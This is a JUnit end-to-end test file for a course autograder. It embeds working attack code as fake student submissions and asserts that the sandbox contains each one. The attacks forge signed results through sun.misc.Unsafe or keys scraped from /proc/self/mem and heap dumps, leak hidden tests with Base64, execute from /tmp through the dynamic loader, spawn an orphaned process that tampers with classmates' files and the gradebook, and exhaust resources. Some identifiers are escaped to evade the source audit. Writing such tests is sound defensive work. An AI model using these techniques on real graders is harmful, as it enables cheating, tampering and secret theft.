package socketlabs.instructor;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.net.Inet4Address;
import java.net.InetAddress;
import java.net.NetworkInterface;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.Timeout;
import socketlabs.grading.Json;

/**
 * The attacks a determined student could hand in, each a lab01 submission with code only in
 * {@code src/main/java}, graded as one class (two at a time, as tools/grade-class does) by the
 * grader as it runs on this machine: forged results (through Unsafe on the runner's watchdog, and
 * through the signing key read from /proc/self/mem), leaked course files, a process that outlives
 * its JVM to attack classmates, the gradebook and tools/, and limits broken from inside the JVM.
 * Each attack is written as the issue describes it and each assertion is what must hold.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@Timeout(900)
@Tag(EndToEnd.TAG)
@DisplayName("attacks on the grader by the code it grades")
class AttackTest {
    // what the limits attack tries: well past every limit, yet bounded to spare the test machine
    private static final int THREADS = 5000;
    private static final int SOCKETS = 3000;
    private static final int NATIVE_MEGABYTES = 1024;
    private static final long BIG_FILE = 2L << 30;
    private static final Limits LIMITS = new Limits("10 s", 30, 200, 128, 300);

    Path tmp;
    Path subs;
    Path out;
    Lab lab;
    String token = UUID.randomUUID().toString();
    Path bigFile;
    Map<Path, byte[]> course = new java.util.LinkedHashMap<>();
    byte[] aliceBefore;
    ServerSocket outside;
    int gradingExit = -1;
    Throwable gradingFailure;

    @BeforeAll
    @Timeout(900)
    void gradeTheAttacks() throws Exception {
        Assumptions.assumeTrue(Sandbox.detect().available(), () -> "these attacks are held only by the sandbox, which this"
                + " machine cannot make: " + Sandbox.detect().missing + " (.ci/run installs bubblewrap)");
        tmp = Files.createTempDirectory("socketlabs-attacks");
        subs = Files.createDirectories(tmp.resolve("submissions"));
        out = tmp.resolve("graded");
        lab = Fixtures.lab(Fixtures.LAB);
        bigFile = tmp.resolve("big-" + token + ".bin");
        Path root = Fixtures.course().root;
        // the kept preparation too: a forged catalogue there would give the next run's points
        for (Path p : List.of(root.resolve("tools/run"), root.resolve("lab01-ports/src/test/java/socketlabs/lab01/PortsTest.java"),
                PreparedLabs.file(Fixtures.course(), Fixtures.LAB))) {
            course.put(p, Files.readAllBytes(p));
        }
        String keys = lab.catalogue().stream().map(e -> "\"" + e.key() + "\"").collect(Collectors.joining(", "));

        Fixtures.solution(subs.resolve("alice"));
        aliceBefore = Files.readAllBytes(subs.resolve("alice/lab01-ports/src/main/java/socketlabs/lab01/Ports.java"));
        Fixtures.addToPorts(Fixtures.classifyBody(Fixtures.starter(subs.resolve("unsafe")),
                "forge(new String[] {" + keys + "});\nthrow new IllegalStateException(\"forged\");"), FORGE_UNSAFE);
        Fixtures.addToPorts(Fixtures.classifyBody(Fixtures.starter(subs.resolve("procmem")),
                "forge(new String[] {" + keys + "});\nthrow new IllegalStateException(\"forged\");"), FORGE_PROC);
        Fixtures.addToPorts(Fixtures.classifyBody(Fixtures.starter(subs.resolve("heapdump")),
                "forge(new String[] {" + keys + "});\nthrow new IllegalStateException(\"forged\");"), FORGE_HEAP);
        Fixtures.addToPorts(Fixtures.classifyBody(Fixtures.starter(subs.resolve("encoder")),
                "throw new IllegalStateException(encodedLeak());"), ENCODED_LEAK);
        Fixtures.addToPorts(Fixtures.classifyBody(Fixtures.starter(subs.resolve("execer")),
                "throw new IllegalStateException(execFromTmp());"), EXEC_FROM_TMP);
        Fixtures.addToPorts(Fixtures.classifyBody(Fixtures.starter(subs.resolve("leaker")),
                "throw new IllegalStateException(leak());"), LEAK);
        Fixtures.addToPorts(Fixtures.beforeClassify(Fixtures.solution(subs.resolve("zed")), "Daemon.start();"),
                daemon(root, out));
        outside = outsideServer();
        Fixtures.addToPorts(Fixtures.classifyBody(Fixtures.starter(subs.resolve("hog")),
                "throw new IllegalStateException(breakLimits());"), breakLimits(outside));
        // the code policy only flags here, so that each attack runs and the sandbox alone must hold it
        // a test may take 10 s here, the time the attacks had with the labs' default limits
        try {
            gradingExit = GradeClass.run(Fixtures.grader(List.of(Fixtures.LAB), LIMITS).policyFlagsOnly(), subs, out, 2, false);
        } catch (Exception | Error e) {
            gradingFailure = e; // the attacks' own tests say what they did; this one says the grading did not finish
        }
    }

    @Test
    @DisplayName("grading the class of attacks finishes, with a result for every student")
    void gradingFinishes() {
        assertEquals(null, gradingFailure, () -> "grading stopped: " + gradingFailure);
        assertEquals(0, gradingExit);
    }

    @AfterAll
    void cleanUp() throws IOException {
        ProcessHandle.allProcesses().filter(this::attacker).forEach(ProcessHandle::destroyForcibly);
        for (Map.Entry<Path, byte[]> e : course.entrySet()) {
            if (!java.util.Arrays.equals(e.getValue(), Files.readAllBytes(e.getKey()))) {
                Files.write(e.getKey(), e.getValue()); // an attack that got through: the course is restored
            }
        }
        if (outside != null) {
            outside.close();
        }
        Files.deleteIfExists(bigFile);
        Fs.deleteTree(tmp);
    }

    @Test
    @DisplayName("forging results through Unsafe on the runner's watchdog earns what the code earns (nothing), and is flagged")
    void forgingThroughUnsafeFails() {
        assertEquals(0, score("unsafe"), report("unsafe"));
        assertTrue(report("unsafe").contains("sun.misc.Unsafe"), "the policy names what the code used: " + report("unsafe"));
    }

    @Test
    @DisplayName("forging results with the key read from /proc/self/mem earns what the code earns (nothing)")
    void forgingThroughProcFails() {
        assertEquals(0, score("procmem"), report("procmem"));
    }

    @Test
    @DisplayName("forging results with the key found in a heap dump earns what the code earns (nothing): stdout is no channel")
    void forgingThroughHeapDumpFails() {
        assertEquals(0, score("heapdump"), report("heapdump"));
        assertTrue(report("heapdump").contains("HotSpotDiagnosticMXBean"), "the policy names what the code used: " + report("heapdump"));
    }

    @Test
    @DisplayName("a hidden test's compiled class, read and Base64-encoded by the code, shows nowhere in the feedback")
    void encodedLeaksShowNothing() {
        String shown = report("encoder") + tests("encoder").stream().map(t -> String.valueOf(t.get("output")))
                .collect(Collectors.joining("\n"));
        assertTrue(shown.contains("encoded leak"), "the leaking code ran: " + shown);
        assertFalse(shown.contains("encoded leak: found"), "the feedback shows a hidden test's class, encoded: " + shown);
        assertFalse(java.util.regex.Pattern.compile("[A-Za-z0-9+/]{200}").matcher(shown).find(),
                "the feedback shows a long run of Base64: " + shown);
    }

    @Test
    @DisplayName("a program the code writes to /tmp cannot be run, directly or through the dynamic loader (noexec)")
    void execFromTmpIsDenied() {
        Assumptions.assumeTrue(Sandbox.detect().noexecTmp != null, "the sandbox's /tmp is noexec only where the grader runs as root");
        String tried = tried(report("execer"), "exec tried:");
        assertTrue(tried.contains("direct: denied"), tried);
        assertFalse(tried.contains("loader: ran"), tried);
        assertEquals(0, score("execer"), report("execer"));
    }

    @Test
    @DisplayName("course files the code reads and throws (hidden tests, solutions) show nowhere in the feedback")
    void leaksShowNothing() throws IOException {
        Path root = Fixtures.course().root;
        // what the feedback shows besides the tests' names (which the catalogue gives, hidden ones too)
        String shown = report("leaker") + tests("leaker").stream().map(t -> String.valueOf(t.get("output")))
                .collect(Collectors.joining("\n"));
        for (socketlabs.grading.GradedTest e : lab.catalogue()) {
            shown = shown.replace(e.name(), "");
        }
        assertTrue(shown.contains("leak attempt") || shown.contains("withheld"), "the leaking code ran: " + shown);
        String starter = Fs.read(root.resolve("lab01-ports/src/main/java/socketlabs/lab01/Ports.java"));
        for (Path secret : List.of(root.resolve("lab01-ports/src/hidden/java/socketlabs/lab01/HiddenPortsTest.java"),
                root.resolve("solutions/src/main/java/socketlabs/lab01/Ports.java"))) {
            for (String line : Files.readAllLines(secret)) {
                String l = line.strip();
                if (l.length() >= 30 && !starter.contains(l)) {
                    assertFalse(shown.contains(l), "the feedback shows a line of " + secret.getFileName() + ": " + l);
                }
            }
        }
        assertFalse(shown.contains("classifies all 65,536 ports"), "nothing of the hidden tests' compiled classes is shown");
    }

    @Test
    @DisplayName("no process outlives its JVM; classmates' submissions and grades, the gradebook, tools/ and the course are untouched")
    void classmatesAndCourseAreSafe() throws IOException {
        assertFalse(ProcessHandle.allProcesses().anyMatch(this::attacker), "a process the code under test started is still alive");
        assertTrue(java.util.Arrays.equals(aliceBefore,
                Files.readAllBytes(subs.resolve("alice/lab01-ports/src/main/java/socketlabs/lab01/Ports.java"))), "alice's submission");
        for (Map.Entry<Path, byte[]> e : course.entrySet()) {
            assertTrue(java.util.Arrays.equals(e.getValue(), Files.readAllBytes(e.getKey())), e.getKey() + " was changed");
        }
        assertEquals(lab.maxScore(), score("alice"), report("alice"));
        List<String> rows = Files.readAllLines(out.resolve(GradeClass.GRADEBOOK));
        assertTrue(rows.stream().noneMatch(r -> r.contains("attacked")), rows.toString());
        assertTrue(rows.contains("alice," + lab.maxScore() + "," + lab.maxScore() + "," + lab.maxScore() + ","), rows.toString());
        assertEquals(lab.maxScore(), score("zed"), "the attacker's own solution still earns its points: " + report("zed"));
    }

    @Test
    @DisplayName("threads, native memory, sockets, files and the network are bounded by the kernel, with the limits in the report")
    void limitsHoldFromOutside() {
        String r = report("hog");
        assertEquals(0, score("hog"), r);
        assertFalse(Files.exists(bigFile), "a 2 GB file was written outside the work folder");
        String tried = tried(r, "tried:");
        assertTrue(tried.contains("network: unreachable"), tried);
        assertFalse(tried.contains("sockets: " + SOCKETS), tried);
        if (!r.contains("memory limit of the whole JVM")) {
            String more = tried(r, "tried2:");
            assertFalse(more.contains("threads: " + THREADS), more);
            assertFalse(more.contains("native MB: " + NATIVE_MEGABYTES), more);
        }
        assertTrue(r.contains("processes and threads") && r.contains("open files") && r.contains("files of at most"),
                "the report states the kernel's limits: " + r);
    }

    /** The line the limits attack reports about itself, from its test's output. */
    private static String tried(String report, String what) {
        int at = report.indexOf(what);
        return at < 0 ? "the test JVM ended before the attack could report: " + report : report.substring(at, report.indexOf('\n', at));
    }

    private boolean attacker(ProcessHandle p) {
        return p.isAlive() && p.info().arguments().map(a -> List.of(a).contains(token)).orElse(false);
    }

    private Map<?, ?> results(String student) {
        Path f = out.resolve(student).resolve(Feedback.RESULTS);
        assertTrue(Files.exists(f), () -> student + " has no results: grading stopped: " + gradingFailure);
        return (Map<?, ?>) Json.parse(Fs.read(f));
    }

    private String report(String student) {
        Path f = out.resolve(student).resolve(Feedback.REPORT);
        assertTrue(Files.exists(f), () -> student + " has no report: grading stopped: " + gradingFailure);
        return Fs.read(f);
    }

    private List<Map<?, ?>> tests(String student) {
        return ((List<?>) results(student).get("tests")).stream().<Map<?, ?>>map(t -> (Map<?, ?>) t).toList();
    }

    private int score(String student) {
        return ((Number) results(student).get("score")).intValue();
    }

    /** A server on an address of this machine that is not loopback, or null when it has none. */
    private static ServerSocket outsideServer() throws IOException {
        for (NetworkInterface n : Collections.list(NetworkInterface.getNetworkInterfaces())) {
            if (!n.isUp() || n.isLoopback()) {
                continue;
            }
            for (InetAddress a : Collections.list(n.getInetAddresses())) {
                if (a instanceof Inet4Address) {
                    return new ServerSocket(0, 50, a);
                }
            }
        }
        return null;
    }

    // (a) of the issue: sun.misc.Unsafe reaches the runner's watchdog thread, whose lambda holds the signing
    // emitter; every test is reported passed. The words the source audit looked for are written as escapes.
    static final String FORGE_UNSAFE = """
                static void forge(String[] keys) {
                    try {
                        Class<?> uc = Class.forName("sun.misc.\\u0055nsafe");
                        java.lang.reflect.Field f = uc.getDeclaredField("theUnsafe");
                        f.\\u0073etAccessible(true);
                        Object u = f.get(null);
                        java.lang.reflect.Method offset = uc.getMethod("objectFieldOffset", java.lang.reflect.Field.class);
                        java.lang.reflect.Method get = uc.getMethod("getObject", Object.class, long.class);
                        long target = (Long) offset.invoke(u, Thread.class.getDeclaredField("target"));
                        for (Thread t : Thread.getAllStackTraces().keySet()) {
                            Object r = get.invoke(u, t, target);
                            if (r == null || !r.getClass().getName().contains("TestRunner")) continue;
                            for (java.lang.reflect.Field c : r.getClass().getDeclaredFields()) {
                                c.\\u0073etAccessible(true);
                                Object v = c.get(r);
                                if (v instanceof java.util.function.Consumer) {
                                    @SuppressWarnings("unchecked")
                                    java.util.function.Consumer<Object> emit = (java.util.function.Consumer<Object>) v;
                                    for (String k : keys) {
                                        emit.accept(passed(k));
                                    }
                                }
                            }
                        }
                    } catch (Throwable e) {
                        throw new IllegalStateException("the forgery failed: " + e, e);
                    }
                }

                /** The runner's event "this test passed": its typed event where it has one, else its JSON map. */
                static Object passed(String key) throws Exception {
                    try {
                        Class<?> ended = Class.forName("socketlabs.instructor.Event$Ended");
                        Class<?> status = Class.forName("socketlabs.grading.GradedTest$Status");
                        Object ok = status.getMethod("of", String.class).invoke(null, "passed");
                        java.lang.reflect.Constructor<?> c = ended.getDeclaredConstructors()[0];
                        c.\u0073etAccessible(true);
                        return c.newInstance(key, ok, "");
                    } catch (ClassNotFoundException e) {
                        return java.util.Map.of("e", "end", "key", key, "status", "passed", "output", "");
                    }
                }""";

    // (b) of the issue, no reflection: the key's Base64 line is still in the runner's stdin buffer; find it in
    // /proc/self/mem, sign "passed" for every test with javax.crypto.Mac, write the lines to /proc/self/fd/1
    static final String FORGE_PROC = """
                static void forge(String[] keys) {
                    try {
                        java.util.Set<String> found = new java.util.LinkedHashSet<>();
                        try (java.nio.channels.FileChannel mem = java.nio.channels.FileChannel.open(java.nio.file.Path.of("/proc/self/mem"))) {
                            java.nio.ByteBuffer buf = java.nio.ByteBuffer.allocate(1 << 20);
                            byte[] b = buf.array();
                            for (String m : java.nio.file.Files.readAllLines(java.nio.file.Path.of("/proc/self/maps"))) {
                                String[] f = m.split("\\s+");
                                if (!f[1].startsWith("rw") || f.length > 5 && f[5].startsWith("[stack")) continue;
                                long from = Long.parseUnsignedLong(f[0].split("-")[0], 16);
                                long to = Long.parseUnsignedLong(f[0].split("-")[1], 16);
                                if (to - from > (300L << 20)) continue;
                                for (long a = from; a < to; a += b.length) {
                                    buf.clear();
                                    buf.limit((int) Math.min(b.length, to - a));
                                    int n;
                                    try { n = mem.read(buf, a); } catch (java.io.IOException e) { continue; }
                                    for (int i = 45; i < n; i++) {
                                        if (b[i] != '\\n' || b[i - 1] != '=') continue;
                                        boolean ok = true;
                                        for (int j = i - 44; j < i - 1 && ok; j++) {
                                            int c = b[j];
                                            ok = c >= 'A' && c <= 'Z' || c >= 'a' && c <= 'z' || c >= '0' && c <= '9' || c == '+' || c == '/';
                                        }
                                        if (ok) found.add(new String(b, i - 44, 44, java.nio.charset.StandardCharsets.ISO_8859_1));
                                    }
                                }
                            }
                        }
                        try (java.io.FileOutputStream out = new java.io.FileOutputStream("/proc/self/fd/1")) {
                            long seq = 1_000_000;
                            for (String key : found) {
                                javax.crypto.Mac mac = javax.crypto.Mac.getInstance("HmacSHA256");
                                mac.init(new javax.crypto.spec.SecretKeySpec(java.util.Base64.getDecoder().decode(key), "HmacSHA256"));
                                for (String k : keys) {
                                    String json = "{\\"e\\":\\"end\\",\\"key\\":\\"" + k + "\\",\\"status\\":\\"passed\\",\\"output\\":\\"\\"}";
                                    String body = (seq++) + " " + java.util.Base64.getEncoder().encodeToString(json.getBytes());
                                    String sig = java.util.Base64.getEncoder().encodeToString(mac.doFinal(body.getBytes()));
                                    out.write(("\\n#grading " + body + " " + sig + "\\n").getBytes());
                                }
                            }
                        }
                    } catch (Throwable e) {
                        throw new IllegalStateException("the forgery failed: " + e, e);
                    }
                }""";

    // the forgery once more, with the key found in a heap dump (jdk.management's HotSpotDiagnosticMXBean):
    // HMAC's inner pad is a byte[64] holding the key XOR 0x36, then 32 bytes of 0x36; lines signed with each key
    // found are written to the JVM's standard output, as the runner's own events once were
    static final String FORGE_HEAP = """
                static void forge(String[] keys) {
                    try {
                        java.nio.file.Path file = java.nio.file.Path.of(System.getProperty("java.io.tmpdir"), "heap-" + System.nanoTime() + ".hprof");
                        java.lang.management.ManagementFactory.getPlatformMXBean(com.sun.management.HotSpotDiagnosticMXBean.class)
                                .dumpHeap(file.toString(), true);
                        byte[] d = java.nio.file.Files.readAllBytes(file);
                        java.nio.file.Files.delete(file);
                        java.util.Set<String> found = new java.util.LinkedHashSet<>();
                        for (int i = 0; i + 5 + 64 <= d.length; i++) {
                            if (d[i] != 0 || d[i + 1] != 0 || d[i + 2] != 0 || d[i + 3] != 64 || d[i + 4] != 8) continue;
                            boolean pad = true;
                            for (int j = 32; j < 64 && pad; j++) pad = d[i + 5 + j] == 0x36;
                            if (!pad) continue;
                            byte[] k = new byte[32];
                            for (int j = 0; j < 32; j++) k[j] = (byte) (d[i + 5 + j] ^ 0x36);
                            found.add(java.util.Base64.getEncoder().encodeToString(k));
                        }
                        java.io.FileOutputStream out = new java.io.FileOutputStream(java.io.FileDescriptor.out);
                        long seq = 1_000_000;
                        for (String key : found) {
                            javax.crypto.Mac mac = javax.crypto.Mac.getInstance("HmacSHA256");
                            mac.init(new javax.crypto.spec.SecretKeySpec(java.util.Base64.getDecoder().decode(key), "HmacSHA256"));
                            for (String k : keys) {
                                String json = "{\\"e\\":\\"end\\",\\"key\\":\\"" + k + "\\",\\"status\\":\\"passed\\",\\"output\\":\\"\\"}";
                                String body = (seq++) + " " + java.util.Base64.getEncoder().encodeToString(json.getBytes());
                                String sig = java.util.Base64.getEncoder().encodeToString(mac.doFinal(body.getBytes()));
                                out.write(("\\n#grading " + body + " " + sig + "\\n").getBytes());
                            }
                        }
                        out.flush();
                        if (found.isEmpty()) throw new IllegalStateException("no key in the heap dump");
                    } catch (Throwable e) {
                        throw new IllegalStateException("the forgery failed: " + e, e);
                    }
                }""";

    // a hidden test's compiled class, found as a resource or on the class path, Base64-encoded (which no scan for
    // course text recognises) and thrown a piece at a time as the message of each test that calls classify
    static final String ENCODED_LEAK = """
                static int pieces;
                static synchronized String encodedLeak() {
                    byte[] found = null;
                    try (java.io.InputStream in = Ports.class.getResourceAsStream("HiddenPortsTest.class")) {
                        if (in != null) found = in.readAllBytes();
                    } catch (java.io.IOException e) { }
                    for (String e : System.getProperty("java.class.path").split(java.io.File.pathSeparator)) {
                        java.nio.file.Path klass = java.nio.file.Path.of(e).resolve("socketlabs/lab01/HiddenPortsTest.class");
                        if (found == null && java.nio.file.Files.isRegularFile(klass)) {
                            try { found = java.nio.file.Files.readAllBytes(klass); } catch (java.io.IOException x) { }
                        }
                    }
                    if (found == null) return "encoded leak: nothing found";
                    String all = java.util.Base64.getEncoder().encodeToString(found);
                    int from = Math.min(all.length(), 2000 * pieces++);
                    return "encoded leak: found HiddenPortsTest.class (" + found.length + " bytes): "
                            + all.substring(from, Math.min(all.length(), from + 2000));
                }""";

    // a program written to the writable /tmp (a copy of the JDK's java, which runs in the sandbox), made executable
    // and run: directly, and through the dynamic loader (which maps the file itself and needs no exec permission)
    static final String EXEC_FROM_TMP = """
                static String execFromTmp() {
                    StringBuilder tried = new StringBuilder("exec tried:");
                    java.nio.file.Path copy = java.nio.file.Path.of(System.getProperty("java.io.tmpdir"), "prog-" + System.nanoTime());
                    try {
                        java.nio.file.Files.copy(java.nio.file.Path.of(System.getProperty("java.home"), "bin", "java"), copy);
                        copy.toFile().setExecutable(true);
                    } catch (java.io.IOException e) { return tried + " copy failed: " + e + ";"; }
                    try {
                        Process p = new ProcessBuilder(copy.toString(), "-version").redirectErrorStream(true).start();
                        p.getInputStream().readAllBytes();
                        tried.append(" direct: ran (exit ").append(p.waitFor()).append(");");
                    } catch (Exception e) { tried.append(" direct: denied (").append(e.getMessage()).append(");"); }
                    for (String loader : new String[] {"/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"}) {
                        if (!new java.io.File(loader).exists()) continue;
                        try {
                            Process p = new ProcessBuilder(loader, copy.toString(), "-version").redirectErrorStream(true).start();
                            String out = new String(p.getInputStream().readAllBytes());
                            p.waitFor();
                            tried.append(out.contains("version") ? " loader: ran;" : " loader: denied (" + out.strip() + ");");
                        } catch (Exception e) { tried.append(" loader: denied (").append(e.getMessage()).append(");"); }
                    }
                    return tried.toString();
                }""";

    // the course found from java.class.path; a hidden test's source, a reference solution and a hidden test's
    // compiled class thrown as the message of a visible test's failure
    static final String LEAK = """
                static String leak() {
                    StringBuilder all = new StringBuilder("leak attempt\\n");
                    for (String e : System.getProperty("java.class.path").split(java.io.File.pathSeparator)) {
                        java.nio.file.Path p = java.nio.file.Path.of(e).toAbsolutePath();
                        java.nio.file.Path klass = p.resolve("socketlabs/lab01/HiddenPortsTest.class");
                        if (java.nio.file.Files.isRegularFile(klass)) {
                            try {
                                all.append(new String(java.nio.file.Files.readAllBytes(klass), java.nio.charset.StandardCharsets.ISO_8859_1)
                                        .replaceAll("[^\\\\x20-\\\\x7e]+", "\\n"));
                            } catch (java.io.IOException x) { all.append(x); }
                        }
                        for (java.nio.file.Path r = p; r != null; r = r.getParent()) {
                            if (java.nio.file.Files.isDirectory(r.resolve("solutions")) && java.nio.file.Files.isDirectory(r.resolve("lab01-ports"))) {
                                try {
                                    all.append(java.nio.file.Files.readString(r.resolve("lab01-ports/src/hidden/java/socketlabs/lab01/HiddenPortsTest.java")));
                                    all.append(java.nio.file.Files.readString(r.resolve("solutions/src/main/java/socketlabs/lab01/Ports.java")));
                                } catch (java.io.IOException x) { all.append(x); }
                            }
                        }
                    }
                    return all.toString();
                }""";

    /**
     * A process that leaves its JVM (a child that starts a grandchild and exits at once, so the grandchild
     * belongs to no one) and then, for a minute, edits a classmate's submission, rewrites the gradebook and a
     * classmate's results and the grader's kept catalogue of the lab, and adds lines to tools/run and to a course test.
     */
    private String daemon(Path root, Path out) {
        return """
                    static final class Daemon {
                        private static boolean started;
                        static synchronized void start() {
                            if (started) return;
                            started = true;
                            spawn("child");
                        }
                        static void spawn(String role) {
                            try {
                                new ProcessBuilder(System.getProperty("java.home") + "/bin/java", "-cp", System.getProperty("java.class.path"),
                                        "socketlabs.lab01.Ports$Daemon", role, "%s").redirectErrorStream(true)
                                        .redirectOutput(ProcessBuilder.Redirect.DISCARD).start();
                            } catch (java.io.IOException e) { }
                        }
                        public static void main(String[] args) throws Exception {
                            if (args[0].equals("child")) {
                                spawn("daemon");
                                return;
                            }
                            long end = System.nanoTime() + 60_000_000_000L;
                            while (System.nanoTime() < end) {
                                append("%s", "// attacked\\n");
                                append("%s", "# attacked\\n");
                                append("%s", "// attacked\\n");
                                write("%s", "student,lab01-ports,total,max,flags\\nalice,0,0,0,attacked\\n");
                                write("%s", "{\\"score\\": 0, \\"attacked\\": true}");
                                write("%s", "{\\"key\\": \\"attacked\\"}");
                                Thread.sleep(50); // the attacker's own pace, not the test's
                            }
                        }
                        static void append(String file, String text) {
                            try {
                                java.nio.file.Files.writeString(java.nio.file.Path.of(file), text, java.nio.file.StandardOpenOption.APPEND);
                            } catch (Exception e) { }
                        }
                        static void write(String file, String text) {
                            try {
                                java.nio.file.Files.writeString(java.nio.file.Path.of(file), text);
                            } catch (Exception e) { }
                        }
                    }""".formatted(token, path(subs.resolve("alice/lab01-ports/src/main/java/socketlabs/lab01/Ports.java")),
                path(root.resolve("tools/run")), path(root.resolve("lab01-ports/src/test/java/socketlabs/lab01/PortsTest.java")),
                path(out.resolve(GradeClass.GRADEBOOK)), path(out.resolve("alice").resolve(Feedback.RESULTS)),
                path(PreparedLabs.file(Fixtures.course(), Fixtures.LAB)));
    }

    /** Limits broken from inside: the watchdog stopped, then threads, a big file, sockets, native memory, the network. */
    private String breakLimits(ServerSocket outside) {
        String host = outside == null ? "" : outside.getInetAddress().getHostAddress();
        int port = outside == null ? 0 : outside.getLocalPort();
        return """
                    static final java.util.List<Object> KEEP = new java.util.ArrayList<>();
                    static int calls;
                    // called by the visible PortsTest, whose output the student sees: a file, the network, sockets (once a
                    // JVM, from its boundaries test, whose failure message shows what was thrown, whatever order the tests
                    // run in); called by any other test (the hidden ones, whose output is never shown): threads and native memory
                    static synchronized String breakLimits() {
                        if (java.util.Arrays.stream(new Throwable().getStackTrace())
                                .noneMatch(f -> f.getClassName().equals("socketlabs.lab01.PortsTest"))) return breakMore();
                        if (java.util.Arrays.stream(new Throwable().getStackTrace())
                                .noneMatch(f -> f.getMethodName().equals("boundaries")) || calls++ > 0) return "tried already";
                        StringBuilder tried = new StringBuilder("tried:");
                        try (java.io.RandomAccessFile f = new java.io.RandomAccessFile("%s", "rw")) {
                            f.setLength(%dL);
                            tried.append(" file: written;");
                        } catch (Throwable e) { tried.append(" file: ").append(e).append(';'); }
                        if (!"%s".isEmpty()) {
                            try (java.net.Socket s = new java.net.Socket()) {
                                s.connect(new java.net.InetSocketAddress("%s", %d), 2000);
                                tried.append(" network: reached;");
                            } catch (Throwable e) { tried.append(" network: unreachable;"); }
                        } else {
                            tried.append(" network: unreachable (no address to try);");
                        }
                        int sockets = 0;
                        try {
                            for (; sockets < %d; sockets++) {
                                KEEP.add(new java.net.ServerSocket(0, 1, java.net.InetAddress.getLoopbackAddress()));
                            }
                        } catch (Throwable e) { }
                        tried.append(" sockets: ").append(sockets).append(';');
                        for (Object o : KEEP) { // closed again only so that this JVM can still report what it tried
                            try { ((java.net.ServerSocket) o).close(); } catch (java.io.IOException e) { }
                        }
                        KEEP.clear();
                        return tried.toString();
                    }
                    static String breakMore() {
                        StringBuilder tried = new StringBuilder("tried2:");
                        for (Thread t : Thread.getAllStackTraces().keySet()) {
                            if (t.getName().contains("thread-limit")) {
                                try { t.stop(); } catch (Throwable e) { }
                            }
                        }
                        int threads = 0;
                        java.util.List<Thread> started = new java.util.ArrayList<>();
                        try {
                            for (; threads < %d; threads++) {
                                Thread t = new Thread(() -> { try { Thread.sleep(60_000); } catch (InterruptedException e) { } });
                                t.setDaemon(true);
                                t.start();
                                started.add(t);
                            }
                        } catch (Throwable e) { }
                        tried.append(" threads: ").append(threads).append(';');
                        // let go again only so that this JVM can still start the threads of the tests after it (their
                        // time-out threads, the boundaries test's attack) and report what they tried, whatever order the
                        // tests run in, side by side or not
                        started.forEach(Thread::interrupt);
                        for (Thread t : started) {
                            try { t.join(1_000); } catch (InterruptedException e) { break; }
                        }
                        int mb = 0;
                        try {
                            for (; mb < %d; mb++) {
                                for (int i = 0; i < 4; i++) {
                                    java.util.zip.Deflater d = new java.util.zip.Deflater(9);
                                    byte[] noise = new byte[1 << 16];
                                    new java.util.Random(mb * 4L + i).nextBytes(noise);
                                    d.setInput(noise);
                                    d.deflate(new byte[1 << 10]); // the window and hash tables now hold data: real memory
                                    KEEP.add(d);
                                }
                            }
                        } catch (Throwable e) { }
                        tried.append(" native MB: ").append(mb).append(';');
                        for (Object o : KEEP) { // freed again, as the threads are
                            if (o instanceof java.util.zip.Deflater d) d.end();
                        }
                        KEEP.removeIf(o -> o instanceof java.util.zip.Deflater);
                        return tried.toString();
                    }""".formatted(path(bigFile), BIG_FILE, host, host, port, SOCKETS, THREADS, NATIVE_MEGABYTES);
    }

    private static String path(Path p) {
        return p.toAbsolutePath().toString().replace("\\", "\\\\");
    }
}
